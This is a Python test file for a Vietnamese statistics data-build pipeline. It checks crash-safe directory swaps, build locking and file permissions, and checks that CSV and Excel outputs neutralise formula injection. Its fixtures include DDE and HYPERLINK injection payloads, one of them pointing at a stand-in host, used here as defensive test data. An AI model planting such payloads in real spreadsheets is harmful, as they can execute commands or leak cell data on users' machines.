"""Issue 16: crash-safe build (atomic exchange, fallback recovery, lock, read-only target,
umask permissions, leftovers) and no formula injection in what the build writes."""

from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import openpyxl
import pytest

from me_utils.build import checks, dataset, swap
from me_utils.build import pipeline as build
from me_utils.core import safe_csv
from me_utils.intake import submissions as intake

SRC = str(Path(build.__file__).resolve().parents[2])  # src/ (pipeline sits in me_utils/build/)
HEADER = ["Mã chỉ tiêu", "Đơn vị", "Năm", "Kỳ báo cáo", "Giới tính", "Giá trị", "Ghi chú"]
EVIL_NOTES = [
    '=HYPERLINK("http://example.invalid/?"&A1,"bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\tTab đầu",
    "'=đã có nháy",
]


def _xlsx(path: Path, rows, date="20/11/2024"):
    path.parent.mkdir(parents=True, exist_ok=True)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Báo cáo"
    ws.append(["Cơ quan báo cáo: Sở Nội vụ"])
    ws.append(["Ngày gửi:", date])
    ws.append(HEADER)
    for r in rows:
        ws.append(r)
    for row in ws.iter_rows():  # keep the notes as text cells, as a department's Excel would
        for c in row:
            if isinstance(c.value, str) and c.value[:1] == "=":
                c.data_type = "s"
    wb.save(path)


@pytest.fixture()
def root(tmp_path) -> Path:
    r = tmp_path / "root"
    sub = r / "raw" / "submissions" / "2024"
    _xlsx(
        sub / "SNV_2024_FY.xlsx",
        [
            ["M2.C1", "SL", 2024, "Năm", "Nữ", 27.5, EVIL_NOTES[0]],
            ["M2.C1", "MC", 2024, "Năm", "Nữ", 30, EVIL_NOTES[1]],
            ["M2.C1", "YC", 2024, "Năm", "Nữ", 31, EVIL_NOTES[2]],
            ["M2.C1", "TC", 2024, "Năm", "Nữ", 32, EVIL_NOTES[3]],
            ["M2.C1", "ML", 2024, "Năm", "Nữ", 33, EVIL_NOTES[4]],
            ["M2.C1", "QN", 2024, "Năm", "Nữ", 34, EVIL_NOTES[5]],
        ],
    )
    # A rejected file whose bad value begins with "=": it reaches findings.csv as a value.
    _xlsx(sub / "SYT_2024_FY.xlsx", [["M2.C1", "SL", 2024, "Năm", "Nữ", "=1+cmd|x", ""]])
    return r


def _complete(proc: Path) -> dict:
    """The manifest of ``proc`` after checking every output it lists has the listed hash."""
    man = json.loads((proc / "manifest.json").read_text(encoding="utf-8"))
    for name, digest in man["outputs"].items():
        assert hashlib.sha256((proc / name).read_bytes()).hexdigest() == digest, name
    return man


def _run_script(code: str, root: Path) -> subprocess.CompletedProcess:
    script = textwrap.dedent(code).replace("ROOT", repr(str(root)))
    return subprocess.run(
        [sys.executable, "-c", script],
        env={**os.environ, "PYTHONPATH": SRC},
        capture_output=True,
        text=True,
        timeout=120,
    )


# --------------------------------------------------------------------------- formula injection


def test_no_written_csv_cell_starts_a_formula_and_values_read_back(root):
    assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1  # SYT rejected
    proc = root / "processed"
    for name in ("observations.csv", "history.csv", "findings.csv", "submissions.csv"):
        assert safe_csv.scan_csv(proc / name) == [], name
    raw_obs = (proc / "observations.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in raw_obs and "''=đã có nháy" in raw_obs
    # What the analysis reads is what was stored: notes restored, numbers unchanged.
    obs = dataset.load_observations(root)
    assert sorted(obs["note"]) == sorted(n.strip() for n in EVIL_NOTES)  # intake strips the tab
    assert sorted(obs["value"]) == [27.5, 30.0, 31.0, 32.0, 33.0, 34.0]
    finds = safe_csv.read_csv(proc / "findings.csv", dtype=str, keep_default_na=False)
    assert "=1+cmd|x" in set(finds["value"])
    assert "'=1+cmd|x" in (proc / "findings.csv").read_text(encoding="utf-8")


def test_validate_findings_file_is_neutralised(root, tmp_path):
    out = tmp_path / "f.csv"
    intake.cli_validate([str(root / "raw"), "--quiet", "--findings", str(out)])
    assert safe_csv.scan_csv(out) == []
    back = safe_csv.read_csv(out, dtype=str, keep_default_na=False)
    assert "=1+cmd|x" in set(back["value"])


def test_neutralise_roundtrip_rules():
    cases = ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "''-1", "plain", "'quoted", "", "1-2", "a=b"]
    for s in cases:
        out = safe_csv.neutralise(s)
        assert safe_csv.restore(out) == s
        assert not safe_csv.is_dangerous(out)
    assert safe_csv.neutralise(-3.5) == -3.5 and safe_csv.neutralise(None) is None
    assert [safe_csv.neutralise(s) for s in ("=1", "'=1", "x", "1-2")] == ["'=1", "''=1", "x", "1-2"]


def test_xlsx_text_cells_get_quote_prefix_and_keep_their_value(tmp_path):
    import io

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(['=HYPERLINK("x")', "-abc", -4.5, "ok"])
    assert safe_csv.neutralise_workbook(wb) == 2
    buf = io.BytesIO()
    wb.save(buf)
    back = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))
    a, b, c, d = back.active[1]
    assert (a.value, a.data_type, a.quotePrefix) == ('=HYPERLINK("x")', "s", True)
    assert (b.value, b.quotePrefix) == ("-abc", True)
    assert (c.value, c.data_type) == (-4.5, "n") and not d.quotePrefix


def test_scorecard_workbook_is_neutralised(monkeypatch, tmp_path):
    from me_utils.render import workbook as scorecard_xlsx

    seen = []
    real = safe_csv.neutralise_workbook
    monkeypatch.setattr(safe_csv, "neutralise_workbook", lambda wb: seen.append(wb) or real(wb))
    from test_review_fixtures import make_scorecard  # the contract fixture

    sc = make_scorecard()
    name_col = next(c for c in sc.columns if c.startswith("name") or c.endswith("name_vi"))
    sc.loc[sc.index[0], name_col] = '=HYPERLINK("http://x")'
    path = scorecard_xlsx.write_workbook(tmp_path / "scorecard.xlsx", sc, as_of="2025-03-01")
    assert any(
        c.value == '=HYPERLINK("http://x")'
        for ws in openpyxl.load_workbook(path).worksheets
        for row in ws.iter_rows()
        for c in row
    )
    assert seen
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value[:1] in safe_csv.TRIGGERS:
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)


# --------------------------------------------------------------------------- crash-safe swap


def _has_exchange(tmp: Path) -> bool:
    from me_utils.core.atomic import exchange

    a, b = tmp / "xa", tmp / "xb"
    a.mkdir(), b.mkdir()
    return exchange(a, b)


def test_kill_right_after_the_exchange_leaves_a_complete_processed(root, tmp_path):
    if not _has_exchange(tmp_path):
        pytest.skip("no renameat2 exchange here: the fallback is tested below")
    assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
    first = _complete(root / "processed")
    (root / "raw" / "submissions" / "2024" / "SYT_2024_FY.xlsx").unlink()  # the next build differs
    r = _run_script(
        """
        import os
        from me_utils.build import pipeline as build, swap
        swap._after_swap = lambda: os._exit(9)  # killed between the swap and the clean-up
        build.cli(["--root", ROOT, "--quiet"])
    """,
        root,
    )
    assert r.returncode == 9, r.stderr
    second = _complete(root / "processed")
    assert second["manifest_hash"] != first["manifest_hash"]  # the new data is live
    assert list(root.glob(".processed.*"))  # the old data waits under a leftover name…
    assert build.cli(["--root", str(root), "--quiet"]) == 0
    assert not list(root.glob(".processed.*"))  # …and the next build removes it
    assert _complete(root / "processed")["manifest_hash"] == second["manifest_hash"]


def test_kill_before_the_exchange_keeps_the_old_processed(root):
    assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
    first = _complete(root / "processed")
    (root / "raw" / "submissions" / "2024" / "SYT_2024_FY.xlsx").unlink()
    r = _run_script(
        """
        import os
        from me_utils.build import pipeline as build, swap
        swap.fsync_tree = lambda p: os._exit(9)  # killed with the new folder written
        build.cli(["--root", ROOT, "--quiet"])
    """,
        root,
    )
    assert r.returncode == 9
    assert _complete(root / "processed")["manifest_hash"] == first["manifest_hash"]


def test_fallback_swap_killed_between_the_two_renames_is_recovered(root):
    """Without renameat2 (not Linux) the swap takes two renames; a kill between them leaves the
    old, complete folder under .processed.old-*, which the next build puts back first."""
    assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
    first = _complete(root / "processed")
    r = _run_script(
        """
        import os
        from me_utils.build import pipeline as build, swap
        swap.exchange = lambda a, b: False           # no atomic exchange on this platform
        swap._between_renames = lambda: os._exit(9)  # the fault the old code could not survive
        build.cli(["--root", ROOT, "--quiet", "--keep-going"])
    """,
        root,
    )
    assert r.returncode == 9
    assert not (root / "processed").exists()
    assert len(list(root.glob(".processed.old-*"))) == 1
    done = build.recover(root)
    assert done[0].startswith("khôi phục/restored processed/")
    assert _complete(root / "processed")["manifest_hash"] == first["manifest_hash"]
    assert not list(root.glob(".processed.*"))


def test_exchange_is_atomic_on_this_platform(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir(), b.mkdir()
    (a / "x").write_text("A"), (b / "x").write_text("B")
    from me_utils.core.atomic import exchange

    if not exchange(a, b):
        pytest.skip("renameat2 RENAME_EXCHANGE not available here (fallback path tested above)")
    assert (a / "x").read_text() == "B" and (b / "x").read_text() == "A"


def test_a_failed_swap_leaves_processed_untouched_and_no_leftover(root, monkeypatch):
    assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
    first = _complete(root / "processed")

    def boom(a, b):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(swap, "exchange", boom)
    assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
    assert _complete(root / "processed")["manifest_hash"] == first["manifest_hash"]
    assert not list(root.glob(".processed.*"))


def test_leftovers_of_crashed_builds_are_cleaned(root):
    assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
    for name in (".processed.new-abc", ".processed.old-def"):
        (root / name / "gbv").mkdir(parents=True)
        (root / name / "gbv" / "register.csv").write_text("x")
    build.run_build(root, keep_going=True)
    assert not list(root.glob(".processed.*"))


# --------------------------------------------------------------------------- lock, permissions


def test_concurrent_build_is_refused_with_a_clear_message(root, capsys):
    with build.build_lock(root.resolve()):
        t0 = time.perf_counter()
        rc = build.cli(["--root", str(root), "--quiet"])
        took = time.perf_counter() - t0
    err = capsys.readouterr().err
    assert rc == 1 and took < 5
    assert "another build is running" in err and f"pid {os.getpid()}" in err
    assert "một lần dựng dữ liệu khác đang chạy" in err
    assert "left intact" not in err
    assert not (root / "processed").exists() and not list(root.glob(".processed.*"))


def test_concurrent_process_build_is_refused(root):
    """A real second process while the first holds the lock."""
    ready = root / "ready"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            textwrap.dedent(f"""
        import time, pathlib
        from me_utils.build import pipeline as build
        with build.build_lock(pathlib.Path({str(root.resolve())!r})):
            pathlib.Path({str(ready)!r}).write_text("1")
            time.sleep(30)
    """),
        ],
        env={**os.environ, "PYTHONPATH": SRC},
    )
    try:
        for _ in range(200):
            if ready.exists():
                break
            time.sleep(0.05)
        r = _run_script(
            'from me_utils.build import pipeline as build; raise SystemExit(build.cli(["--root", ROOT]))', root
        )
        assert r.returncode == 1 and f"pid {holder.pid}" in r.stderr
    finally:
        holder.kill()
        holder.wait()
    # The kernel dropped the dead holder's lock: the next build runs.
    assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
    _complete(root / "processed")


def test_wait_option_waits_for_the_other_build(root):
    lock_held = threading.Event()

    def hold():
        with build.build_lock(root.resolve()):
            lock_held.set()
            time.sleep(1.0)

    t = threading.Thread(target=hold)
    t.start()
    lock_held.wait()
    t0 = time.perf_counter()
    with pytest.raises(build.BuildLocked):
        build.run_build(root, keep_going=True)
    summary = build.run_build(root, keep_going=True, wait=True)
    assert time.perf_counter() - t0 >= 0.5 and summary["observations"] == 6
    t.join()


def test_read_only_processed_is_refused(root, capsys):
    assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
    proc = root / "processed"
    first = _complete(proc)
    proc.chmod(0o555)
    try:
        assert build.cli(["--root", str(root), "--keep-going", "--quiet"]) == 1
        err = capsys.readouterr().err
        assert "read-only" in err and "chỉ đọc" in err and "chmod u+w" in err
        assert _complete(proc)["manifest_hash"] == first["manifest_hash"] and not list(root.glob(".processed.*"))
    finally:
        proc.chmod(0o755)


def test_processed_permissions_follow_the_umask(root):
    old = os.umask(0o027)
    try:
        build.run_build(root, keep_going=True)
    finally:
        os.umask(old)
    proc = root / "processed"
    assert stat.S_IMODE(proc.stat().st_mode) == 0o750
    assert stat.S_IMODE((proc / "observations.csv").stat().st_mode) == 0o640


def test_relative_root_is_taken_from_the_current_folder(root, monkeypatch, tmp_path):
    monkeypatch.chdir(root.parent)
    assert build.cli(["--root", root.name, "--keep-going", "--quiet"]) == 1
    _complete(root / "processed")


def test_conflict_message_names_year_and_period(tmp_path):
    p = tmp_path / "SNV_2024_FY.csv"
    p.write_text(
        "Mã chỉ tiêu,Đơn vị,Năm,Kỳ báo cáo,Giá trị\nM2.C1,SL,2024,6 tháng,40\nM2.C1,SL,2024,6 tháng,41\n",
        encoding="utf-8",
    )
    sub = intake.validate_file(p, "SNV_2024_FY.csv")
    m = next(m for m in sub.messages if m.code == "conflicting_duplicate")
    assert "năm 2024, kỳ 6 tháng đầu năm" in m.reason_vi and "year 2024, period first half" in m.reason_en


def test_relative_demo_out_is_taken_from_the_current_folder(tmp_path, monkeypatch):
    from me_utils.demo import generate as demo

    monkeypatch.chdir(tmp_path)
    assert demo.cli(["--out", "rel-demo"]) == 0
    assert (tmp_path / "rel-demo" / "raw" / "ILLUSTRATIVE").exists()


def test_oversized_table_is_refused_before_reading(root, monkeypatch):
    reg = root / "raw" / "gbv" / "register.csv"
    reg.parent.mkdir(parents=True)
    with open(reg, "wb") as fh:
        fh.truncate(checks.MAX_TABLE_BYTES + 1)  # sparse
    monkeypatch.setattr(build.pd, "read_csv", lambda *a, **k: (_ for _ in ()).throw(AssertionError("read")))
    msgs = checks.check_gbv_register("gbv/register.csv", reg)
    assert [(m.code, m.file) for m in msgs] == [("file_too_large", "gbv/register.csv")]
    assert "128 MiB" in msgs[0].reason_vi and "too large" in msgs[0].reason_en


def test_gbv_register_copy_stays_private_under_a_permissive_umask(tmp_path):
    from me_utils.demo import generate as demo

    out = tmp_path / "demo"
    demo.generate(str(out))
    old = os.umask(0o022)
    try:
        build.run_build(out)
    finally:
        os.umask(old)
    proc = out / "processed"
    regs = [p for p in proc.rglob("*.csv") if p.relative_to(proc).parts[0] == "gbv"]
    assert regs
    assert stat.S_IMODE(proc.stat().st_mode) == 0o755
    assert stat.S_IMODE((proc / "observations.csv").stat().st_mode) == 0o644
    assert {stat.S_IMODE(p.stat().st_mode) for p in regs} == {0o600}
    assert stat.S_IMODE((proc / "gbv").stat().st_mode) == 0o700
